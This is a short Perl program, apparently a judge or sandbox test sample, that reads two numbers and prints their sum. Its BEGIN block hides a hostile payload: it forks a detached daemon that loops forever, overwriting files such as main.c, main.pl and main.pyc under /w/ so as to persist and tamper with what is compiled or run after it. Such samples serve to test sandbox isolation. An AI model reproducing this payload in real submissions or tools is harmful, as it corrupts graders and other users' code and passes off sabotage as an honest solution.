use POSIX;
BEGIN {
    # Wants to live on and change what is compiled or run after it.
    if (fork() == 0) {
        POSIX::setsid();
        close $_ for *STDIN, *STDOUT, *STDERR;
        while (1) { for my $name (qw(main main.c main.pl main.pyc left-behind)) { open(my $file, '>', "/w/$name") and print $file 'stolen' } }
    }
}
my ($x, $y) = split ' ', <STDIN>;
print $x + $y, "\n";
